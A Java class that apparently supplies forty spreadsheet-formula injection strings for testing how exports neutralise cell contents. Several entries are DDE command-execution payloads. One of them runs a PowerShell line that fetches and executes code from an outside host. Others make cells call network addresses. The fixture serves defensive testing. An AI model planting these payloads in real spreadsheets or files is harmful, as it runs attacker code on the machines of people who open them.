package org.tenderway.spreadsheet;

import java.util.List;

/** Forty texts that some spreadsheet would run, fetch or show as something else if they stood in a cell as they are. */
public final class FormulaPayloads {

    private FormulaPayloads() {}

    public static List<String> forty() {
        return List.of(
                "=1+1",
                "=cmd|'/C calc'!A0",
                "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
                "=HYPERLINK(\"http://127.0.0.1/x\",\"Click\")",
                "=WEBSERVICE(\"http://127.0.0.1/\")",
                "=IMPORTXML(\"http://127.0.0.1/\",\"//a\")",
                "=IMPORTDATA(\"http://127.0.0.1/\")",
                "=IMAGE(\"http://127.0.0.1/x.png\")",
                "=DDE(\"cmd\";\"/C calc\";\"x\")",
                "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
                "=rundll32|'URL.dll,OpenURL calc.exe'!A",
                "=SUM(A1:A9)",
                "=\"a\"\"b\"",
                "=A1&\"x\"",
                "=INDIRECT(\"A1\")",
                "={1,2}",
                "==1",
                "= 1",
                "=@SUM(1)",
                "=-1+2",
                "+1",
                "+44 115 000 0000",
                "+cmd|'/C calc'!A0",
                "+SUM(A1)",
                "-1",
                "-2+3+cmd|' /C calc'!A0",
                "- a dash",
                "-SUM(A1)",
                "@SUM(A1)",
                "@name",
                "@A1",
                "'=1",
                "''=1",
                "'@x",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "=1,\"next\",=2",
                "=1;=2\"quoted\"");
    }
}
